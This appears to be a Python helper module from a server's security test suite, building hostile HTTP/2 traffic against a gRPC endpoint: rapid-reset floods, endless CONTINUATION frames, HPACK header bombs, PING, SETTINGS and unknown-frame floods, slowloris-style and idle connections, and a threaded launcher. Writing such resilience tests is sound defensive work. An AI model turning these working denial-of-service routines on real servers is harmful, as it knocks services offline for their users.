"""What a hostile client sends: HTTP/2 frames as bytes, and connections that send them as fast as they are taken.

That the server cuts a connection ends its part of an attack, and is what a test hopes for: it is no error here.
"""

import contextlib
import socket
import struct
import threading
import time

import hpack

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, RST_STREAM, SETTINGS, PING, CONTINUATION, UNKNOWN = 1, 3, 4, 6, 9, 0xFA
END_HEADERS = 4
CANCEL = struct.pack(">I", 8)
PATH = "/hydrophone.v1.ActivationService/GetModel"
CALL = [
    (":method", "POST"),
    (":scheme", "http"),
    (":path", PATH),
    (":authority", "attack"),
    ("te", "trailers"),
    ("content-type", "application/grpc"),
]
TLS_HELLO = bytes.fromhex("1603010200010001fc0303") + bytes(507)
HTTP_1 = b"GET /metrics HTTP/1.1\r\nHost: attack\r\n\r\n"


def frame(kind, stream=0, payload=b"", flags=0):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


OPENING = PREFACE + frame(SETTINGS)


def stream_numbers(count):
    return range(1, 2 * count, 2)


def blocks(headers):
    """These headers for a connection's first stream, and for all later ones, when they are in the dynamic table."""
    encoder = hpack.Encoder()
    return encoder.encode(headers), encoder.encode(headers)


def rapid_resets(streams):
    """A call and its reset, again and again, each on a stream of its own."""
    first, later = blocks(CALL)
    parts = [OPENING]
    for number in stream_numbers(streams):
        parts.append(frame(HEADERS, number, first if number == 1 else later, END_HEADERS))
        parts.append(frame(RST_STREAM, number, CANCEL))
    return b"".join(parts)


def continuations(frames, size=8192):
    """A block of headers that goes on and on."""
    junk = b"\x00\x04junk\x7f" + bytes([(size - 135) & 0x7F | 0x80, (size - 135) >> 7])  # a literal of so many bytes
    return OPENING + frame(HEADERS, 1, blocks(CALL)[0]) + frame(CONTINUATION, 1, junk + b"x" * (size - 8)) * frames


def header_bombs(streams, references=16000):
    """Blocks of one-byte indices, each of which stands for a header of 3,000 bytes."""
    encoder = hpack.Encoder()
    bomb = [("bomb", "x" * 3000)]
    parts = [OPENING, frame(HEADERS, 1, encoder.encode([*CALL, *bomb]), END_HEADERS)]
    block = encoder.encode(CALL) + encoder.encode(bomb) * references
    parts += [frame(HEADERS, number, block, END_HEADERS) for number in stream_numbers(streams) if number > 1]
    return b"".join(parts)


def unknown_frames(count, size=1024):
    return OPENING + frame(UNKNOWN, 0, bytes(size)) * count


def pings(count):
    return OPENING + frame(PING, 0, bytes(8)) * count


def settings(count):
    return OPENING + frame(SETTINGS) * count


def connect(address):
    if address.startswith("unix:"):
        connection = socket.socket(socket.AF_UNIX)
        connection.settimeout(60)
        connection.connect(address.removeprefix("unix:"))
        return connection
    host, _, port = address.rpartition(":")
    return socket.create_connection((host.strip("[]"), int(port)), timeout=60)


def send_deaf(address, data, hold):
    """Sends all of it and reads nothing; then keeps the connection for `hold` seconds. Returns whether it was cut."""
    try:
        with connect(address) as connection:
            connection.settimeout(hold)
            with contextlib.suppress(TimeoutError):
                connection.sendall(data)
            time.sleep(hold)
            connection.settimeout(1)
            connection.sendall(data[-1:])
    except TimeoutError:
        return False
    except OSError:
        return True
    return False


def send(address, data, hold):
    """Sends all of it and throws away what comes back, until nothing has come for `hold` seconds."""
    with contextlib.suppress(OSError), connect(address) as connection:
        reader = threading.Thread(target=_throw_away, args=(connection, hold), daemon=True)
        reader.start()
        connection.sendall(data)
        reader.join()


def _throw_away(connection, hold):
    with contextlib.suppress(OSError):
        connection.settimeout(hold)
        while connection.recv(1 << 20):
            pass


def slowly(address, connections, seconds):
    """So many connections, each of which sends a byte of its opening now and then."""
    with contextlib.ExitStack() as opened:
        slow = [opened.enter_context(connect(address)) for _ in range(connections)]
        begin = time.monotonic()
        for byte in OPENING[:-1]:
            for connection in slow:
                with contextlib.suppress(OSError):
                    connection.send(bytes([byte]))
            if time.monotonic() - begin > seconds:
                return
            time.sleep(seconds / len(OPENING))


def idly(address, connections, seconds):
    """So many connections that are opened as HTTP/2 has it, and then do nothing. Returns how many were let in."""
    with contextlib.ExitStack() as opened:
        idle = []
        for _ in range(connections):
            connection = opened.enter_context(connect(address))
            connection.sendall(OPENING)
            idle.append(connection)
        time.sleep(seconds)
        return sum(len(connection.recv(9)) == 9 for connection in idle)


def begin(connections, attack):
    """Begins an attack on so many threads, and gives them."""
    threads = [threading.Thread(target=attack, daemon=True) for _ in range(connections)]
    for thread in threads:
        thread.start()
    return threads


def at_once(connections, attack):
    """Runs an attack on so many threads at once, and waits for their ends."""
    for thread in begin(connections, attack):
        thread.join()
